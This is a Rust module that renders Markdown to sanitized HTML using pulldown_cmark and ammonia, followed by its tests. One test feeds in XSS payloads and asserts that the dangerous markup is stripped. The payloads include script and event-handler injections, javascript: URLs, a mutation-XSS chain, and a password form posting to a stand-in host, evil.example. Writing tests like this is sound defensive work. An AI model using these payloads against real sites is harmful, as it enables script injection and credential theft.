//! The owner's Markdown as HTML that cannot run anything.

use std::sync::LazyLock;

use ammonia::Builder;
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html::push_html};

/// The default list of tags: every hole found in the cleaner so far needed a longer one.
static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::default();
    cleaner.link_rel(Some("noopener noreferrer nofollow"));
    cleaner
});

/// Renders and cleans. Headings go down one level: the page's own heading is the product's name.
pub fn render(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        Event::Start(Tag::Heading { level, id, classes, attrs }) => {
            Event::Start(Tag::Heading { level: below(level), id, classes, attrs })
        }
        Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(below(level))),
        other => other,
    });
    let mut html = String::with_capacity(markdown.len() * 3 / 2);
    push_html(&mut html, events);
    CLEANER.clean(&html).to_string()
}

fn below(level: HeadingLevel) -> HeadingLevel {
    HeadingLevel::try_from(level as usize + 1).unwrap_or(HeadingLevel::H6)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_what_owners_write() {
        let html = render("# Contents\n\n- *one*\n- [two](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        assert!(html.contains("<h2>Contents</h2>") && html.contains("<em>one</em>") && html.contains("<td>1</td>"));
        assert!(html.contains(r#"href="https://example.com" rel="noopener noreferrer nofollow""#), "{html}");
    }

    #[test]
    fn nothing_in_it_runs() {
        for hostile in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&#58;alert(1))",
            "![x](data:text/html;base64,PHNjcmlwdD4=)",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<a href='vbscript:x' onclick=x style='background:url(javascript:x)'>x</a>",
            "<form action=//evil.example><input name=password></form>",
            "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
            "<base href=//evil.example><meta http-equiv=refresh content=0>",
        ] {
            let html = render(hostile).to_lowercase();
            for bad in
                ["<script", "onerror", "onclick", "javascript:", "vbscript:", "data:", "<iframe", "<svg", "<form"]
            {
                assert!(!html.contains(bad), "{hostile} gave {html}");
            }
            for bad in ["<style", "style=", "<link", "<base", "<meta", "<input"] {
                assert!(!html.contains(bad), "{hostile} gave {html}");
            }
        }
    }
}
